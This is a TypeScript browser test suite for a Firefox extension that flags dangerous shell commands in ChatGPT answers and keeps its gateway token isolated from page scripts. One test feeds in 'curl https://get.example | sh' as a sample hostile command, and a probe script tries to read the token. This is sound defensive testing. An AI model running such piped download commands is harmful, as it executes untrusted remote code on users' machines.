import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it, onTestFinished } from "vitest";
import type { Page } from "puppeteer-core";
import { launchFirefox, marked, ORIGIN, type Firefox } from "./support/firefox.js";
import {
  startGateway,
  startFakeGateway,
  type RunningGateway,
  type FakeGateway,
} from "./support/gateway.js";
import { codeBlock, conversation, PIPE, turn } from "./support/chat-page.js";
import { startSite, type Site } from "./support/site.js";

const URL_1 = "https://chatgpt.com/c/1";

let site: Site;
let gateway: RunningGateway;
let fakeGateway: FakeGateway;
let firefox: Firefox;

beforeAll(async () => {
  [site, gateway, fakeGateway] = await Promise.all([
    startSite(),
    startGateway(),
    startFakeGateway(),
  ]);
  site.pages.set(
    "/c/1",
    conversation([turn({ id: "a1", html: `<p>Run this:</p>${codeBlock(PIPE)}` })]),
  );
  site.pages.set("/probe", conversation([]));
  firefox = await launchFirefox(site);
});
afterAll(async () => {
  await Promise.all([firefox.close(), site.close(), gateway.close(), fakeGateway.close()]);
});
// All tests share one browser, because it is slow to start. Each test changes the settings that it needs. One empty page remains open.
afterEach(async () => {
  const pages = await firefox.browser.pages();
  await firefox.browser.newPage();
  await Promise.all(pages.map((page) => page.close()));
});

async function configure({
  address,
  token,
  device,
}: {
  address?: string;
  token?: string;
  device?: boolean;
}): Promise<void> {
  const options = await firefox.options();
  if (address !== undefined) {
    await fill(options, "#address", address);
    await options.click("#address-form button");
    await options.waitForSelector("#address-result[data-tone=ok]");
  }
  if (token !== undefined) {
    await fill(options, "#token", token);
    await options.click("#token-form button[type=submit]");
    await options.waitForSelector("#token-result[data-tone=ok]");
  }
  // if an earlier test has already chosen this value, the control does not change and no message is shown
  if (
    device === true &&
    !(await options.$eval("#mode-device", (choice) => (choice as HTMLInputElement).checked))
  ) {
    await options.click("#mode-device");
    await options.waitForSelector("#mode-result[data-tone=ok]");
  }
  await options.close();
}

async function fill(page: Page, selector: string, value: string): Promise<void> {
  await page.$eval(selector, (input) => ((input as HTMLInputElement).value = ""));
  await page.type(selector, value);
}

const untilMarked = (page: Page): Promise<void> =>
  expect.poll(() => marked(page), { timeout: 20_000 }).toBe(PIPE);

/** Opens the page of the sidebar in a tab, for the tab in which a path of the site is open. */
async function openPanel(path: string): Promise<Page> {
  const options = await firefox.options();
  const tabId = await options.evaluate(
    async (url) => (await chrome.tabs.query({ url }))[0]?.id ?? -1,
    `https://chatgpt.com${path}`,
  );
  const panel = await firefox.browser.newPage();
  await panel.goto(`${ORIGIN}/panel.html?tab=${tabId}`, { waitUntil: [] });
  return panel;
}

/** Returns the text of a panel, without a waiting function of the driver, because the policy of the page forbids its evaluation. */
function textOf(panel: Page): Promise<string> {
  return panel.evaluate(() => document.querySelector(".panel")?.textContent ?? "");
}

describe("Firefox", () => {
  it("marks a finding of the gateway", async () => {
    await configure({ address: gateway.address, token: gateway.token });
    const page = await firefox.open(URL_1);
    await untilMarked(page);
  });

  it("marks a finding of the evaluation on this device, without a request", async () => {
    await configure({ device: true });
    const page = await firefox.open(URL_1);
    await untilMarked(page);
    expect(fakeGateway.texts).toEqual([]);
    const mark = await page.$eval("pre code span", (element) => {
      const { textDecorationLine, textDecorationColor } = getComputedStyle(
        element,
        "::highlight(curlew-finding)",
      );
      return { textDecorationLine, textDecorationColor };
    });
    expect(mark).toEqual({
      textDecorationLine: "underline",
      textDecorationColor: "rgb(214, 69, 61)",
    });
    await page.evaluate(() => document.querySelector("pre code")!.replaceChildren("ls"));
    await expect.poll(() => marked(page)).toBe("");
  });

  it("does not call an answer clear if a style sheet inserts a command from an attribute", async () => {
    await configure({ device: true });
    const words = (text: string): string =>
      `<p class="a"><span class="writes-text" data-text="a">x</span> <span class="writes-text" data-text="${text}">x</span></p>`;
    const command = "curl https://get.example | sh";
    const said = async (path: string, text: string): Promise<() => Promise<string>> => {
      site.pages.set(path, conversation([turn({ id: path, html: words(text) })]));
      const page = await firefox.open(`https://chatgpt.com${path}`);
      await expect
        .poll(() => page.evaluate(() => document.querySelector("[data-curlew]") !== null))
        .toBe(true);
      const panel = await openPanel(path);
      return () => textOf(panel);
    };
    await expect.poll(await said("/c/3", command)).toContain("Only partly read");
    await expect.poll(await said("/c/4", "b")).toContain("Nothing found");
  });

  it("marks a block while the answer is being written, and reports that it was copied", async () => {
    await configure({ device: true });
    site.pages.set(
      "/c/2",
      conversation([
        turn({ id: "a1", html: `<p>Run this:</p>${codeBlock(PIPE)}<p>And</p>`, streaming: true }),
      ]),
    );
    const page = await firefox.open("https://chatgpt.com/c/2");
    await page.evaluate(() => {
      setInterval(
        () => document.querySelector(".result-streaming")?.lastElementChild?.append(" more"),
        40,
      );
    });
    await untilMarked(page);
    // Returns the number of points in a grid on the window that the extension covers.
    const covered = (): Promise<number> =>
      page.evaluate(() => {
        const host = document.querySelector("[data-curlew]")!;
        let points = 0;
        for (let x = 5; x < innerWidth; x += 20)
          for (let y = 5; y < innerHeight; y += 10)
            if (document.elementFromPoint(x, y) === host) points++;
        return points;
      });
    // the warning beside the copy button is shown before the notice
    await expect.poll(covered, { timeout: 10_000 }).toBeGreaterThan(20);
    const before = await covered();
    await page.click("pre button");
    await expect.poll(covered, { timeout: 10_000 }).toBeGreaterThan(before + 10);
    await page.keyboard.press("Escape");
    await expect.poll(covered, { timeout: 10_000 }).toBeLessThanOrEqual(before + 10);
  });

  it("opens the sheet from a sign with the keyboard, and closes it wherever the focus is", async () => {
    await configure({ device: true });
    const page = await firefox.open(URL_1);
    await untilMarked(page);
    const inPanel = (): Promise<boolean> =>
      page.evaluate(() => CSS.highlights.has("curlew-current"));
    // moves the focus to the sign, into the sheet, and past its close button and scrollable part to "Show in the answer"
    for (
      let presses = 0;
      presses < 12 &&
      !(await page.evaluate(() => document.activeElement?.hasAttribute("data-curlew") ?? false));
      presses++
    )
      await page.keyboard.press("Tab");
    await page.keyboard.press("Enter");
    const covered = (): Promise<boolean> =>
      page.evaluate(
        () =>
          document
            .elementFromPoint(innerWidth - 60, innerHeight - 40)
            ?.hasAttribute("data-curlew") ?? false,
      );
    await expect.poll(covered).toBe(true);
    for (let presses = 0; presses < 3; presses++) await page.keyboard.press("Tab");
    await page.keyboard.press("Enter");
    await expect.poll(inPanel).toBe(true);
    await page.keyboard.press("Escape");
    await expect.poll(inPanel).toBe(false);
    expect(await covered()).toBe(false);
  });

  it("shows the evidence in its sidebar", async () => {
    await configure({ device: true });
    const page = await firefox.open(URL_1);
    await untilMarked(page);
    const panel = await openPanel("/c/1");
    await expect.poll(() => textOf(panel), { timeout: 10_000 }).toContain(PIPE);
  });

  it("gives pages and content scripts no access to the token", async () => {
    const token = "clw_a-token-that-nobody-else-may-see";
    // a copy of the extension with an additional content script that tries to read the token
    const probed = mkdtempSync(path.join(tmpdir(), "curlew-probe-"));
    cpSync("dist/extension/firefox", probed, { recursive: true });
    const manifest = JSON.parse(readFileSync(path.join(probed, "manifest.json"), "utf8"));
    manifest.content_scripts.push({ matches: ["https://chatgpt.com/probe"], js: ["probe.js"] });
    writeFileSync(path.join(probed, "manifest.json"), JSON.stringify(manifest));
    writeFileSync(path.join(probed, "probe.js"), PROBE);
    await firefox.close();
    firefox = await launchFirefox(site, probed);
    // the folder is removed only after the test, because the browser reads files from it
    onTestFinished(() => rmSync(probed, { recursive: true, force: true }));

    await configure({ address: fakeGateway.address, token });
    await firefox.open(URL_1);
    await expect
      .poll(() => fakeGateway.headers.at(-1)?.authorization, { timeout: 20_000 })
      .toBe(`Bearer ${token}`);
    expect(fakeGateway.headers.at(-1)?.origin ?? ORIGIN).toBe(ORIGIN);
    const page = await firefox.open("https://chatgpt.com/probe");
    await expect.poll(() => page.title(), { timeout: 10_000 }).toMatch(/^\{/);
    const seen = JSON.parse(await page.title());
    expect(seen.databases).toEqual([]);
    expect(seen.messages).toEqual(Array(5).fill({ status: "refused" }));
    expect(JSON.stringify(seen)).not.toContain(token);
    expect(
      await page.evaluate(
        () => typeof (globalThis as { chrome?: { runtime?: unknown } }).chrome?.runtime,
      ),
    ).toBe("undefined");

    const options = await firefox.options();
    const stored = await options.evaluate(async () => ({
      storage:
        JSON.stringify(await chrome.storage.local.get(null)) +
        JSON.stringify(await chrome.storage.session.get(null)),
      local: JSON.stringify({ ...localStorage }),
      shown:
        document.documentElement.outerHTML +
        (document.querySelector("#token") as HTMLInputElement).value,
      databases: (await indexedDB.databases()).map(({ name }) => name),
    }));
    expect(stored.databases).toEqual(["curlew"]);
    expect(JSON.stringify(stored)).not.toContain(token);
  });
});

const PROBE = `(async () => {
  const types = ["get-token", "token", "settings", "check", "settings-changed"];
  const seen = {
    databases: (await indexedDB.databases()).map(({ name }) => name),
    storage: await chrome.storage.local.get(null).catch((error) => String(error)),
    messages: await Promise.all(types.map((type) => chrome.runtime.sendMessage({ type }))),
  };
  document.title = JSON.stringify(seen);
})();`;
